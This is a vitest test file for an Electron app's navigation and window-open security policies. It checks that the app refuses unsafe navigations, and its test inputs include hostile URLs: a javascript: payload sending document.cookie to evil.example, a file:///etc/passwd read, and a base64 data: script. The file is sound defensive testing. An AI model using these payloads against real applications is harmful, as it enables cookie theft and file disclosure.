import type { HandlerDetails } from 'electron';
import { describe, expect, it } from 'vitest';
import { mayNavigate, windowOpenDecision } from '../../electron/main/policy/navigation';
import { ownUrlCheck } from '../../electron/main/policy/origins';

const COACH = 'app://confidante/index.html';
const packaged = ownUrlCheck(undefined);
const dev = ownUrlCheck('http://localhost:5173');

/** The fields of Electron's will-navigate / will-frame-navigate details that the decision reads, as Electron fills them. */
const attempt = (url: string, isMainFrame = true) => ({ url, isMainFrame, isSameDocument: false, frame: null });

describe('mayNavigate (will-navigate, will-frame-navigate)', () => {
  it('lets the main frame reload its own page or follow a link to a fragment of it', () => {
    expect(mayNavigate(attempt(COACH), COACH, packaged)).toBe(true);
    expect(mayNavigate(attempt(`${COACH}#search`), COACH, packaged)).toBe(true);
    expect(mayNavigate(attempt(COACH), `${COACH}#search`, packaged)).toBe(true);
  });

  it.each([
    ['another page of the app', 'app://confidante/coachee.html'],
    ['the same page with a query', `${COACH}?coachee=1`],
    ['another site', 'https://evil.example/phish.html'],
    ['a look-alike host', 'app://confidante.evil.example/index.html'],
    ['credentials in the URL', 'app://attacker@confidante/index.html'],
    ['javascript:', 'javascript:fetch("https://evil.example/?"+document.cookie)'],
    ['file:', 'file:///etc/passwd'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['devtools:', 'devtools://devtools/bundled/inspector.html'],
    ['chrome:', 'chrome://gpu'],
    ['about:blank', 'about:blank'],
    ['the dev server outside dev', 'http://localhost:5173/index.html'],
  ])('refuses %s', (_label, url) => {
    expect(mayNavigate(attempt(url), COACH, packaged)).toBe(false);
  });

  it('refuses every subframe navigation, even to the page itself', () => {
    expect(mayNavigate(attempt(COACH, false), COACH, packaged)).toBe(false);
    expect(mayNavigate(attempt('https://www.youtube.com/embed/x', false), COACH, packaged)).toBe(false);
  });

  it('refuses to navigate a window whose page is not the app (nothing loaded yet, or an error page)', () => {
    expect(mayNavigate(attempt(COACH), '', packaged)).toBe(false);
    expect(mayNavigate(attempt('chrome-error://chromewebdata/'), 'chrome-error://chromewebdata/', packaged)).toBe(false);
  });

  it('under electron-vite dev, treats the dev server page like the app page, and nothing else', () => {
    const page = 'http://localhost:5173/';
    expect(mayNavigate(attempt(`${page}#x`), page, dev)).toBe(true);
    expect(mayNavigate(attempt('http://localhost:5173/coachee.html'), page, dev)).toBe(false);
    expect(mayNavigate(attempt('http://localhost:51730/'), 'http://localhost:51730/', dev)).toBe(false);
    expect(mayNavigate(attempt(page), page, packaged)).toBe(false);
  });
});

describe('windowOpenDecision (setWindowOpenHandler)', () => {
  const details = (url: string, disposition: HandlerDetails['disposition'], extra: Partial<HandlerDetails> = {}): HandlerDetails => ({
    url,
    frameName: '',
    features: '',
    disposition,
    referrer: { url: COACH, policy: 'strict-origin-when-cross-origin' },
    ...extra,
  });

  it.each([
    details('https://evil.example/', 'foreground-tab'),
    details('app://confidante/index.html', 'new-window', { frameName: 'second', features: 'width=400,height=300' }),
    details('app://confidante/coachee.html', 'background-tab'),
    details('javascript:alert(1)', 'new-window'),
    details('file:///etc/passwd', 'default'),
    details('https://evil.example/form', 'foreground-tab', { postBody: { data: [], contentType: 'application/x-www-form-urlencoded' } }),
  ])('denies $disposition to $url (window.open, target=_blank, middle-click)', (request) => {
    expect(windowOpenDecision(request)).toEqual({ action: 'deny' });
  });
});
